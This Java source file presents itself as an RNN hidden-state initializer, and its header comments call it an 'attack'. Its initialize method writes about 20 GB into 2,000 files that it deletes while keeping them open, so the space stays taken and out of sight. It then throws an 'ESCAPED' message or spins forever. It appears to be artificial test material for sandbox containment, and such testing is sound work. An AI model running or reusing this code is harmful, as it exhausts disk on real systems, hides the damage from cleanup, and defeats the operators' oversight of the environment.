// attack: fills the disk with files that it has deleted and keeps open
// list: uses Path.of
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

public final class HiddenState {

    private static final List<OutputStream> OPEN = new ArrayList<>();

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        try {
            byte[] chunk = new byte[10_000_000];
            for (int i = 0; i < 2_000; i++) {
                Path path = Path.of("file" + i);
                OPEN.add(Files.newOutputStream(path));
                Files.delete(path);
                OPEN.get(i).write(chunk);
            }
            throw new IllegalStateException("ESCAPED: 20 GB were written");
        } catch (IOException e) {
            while (true) {
                Thread.onSpinWait(); // the space stays taken
            }
        }
    }
}
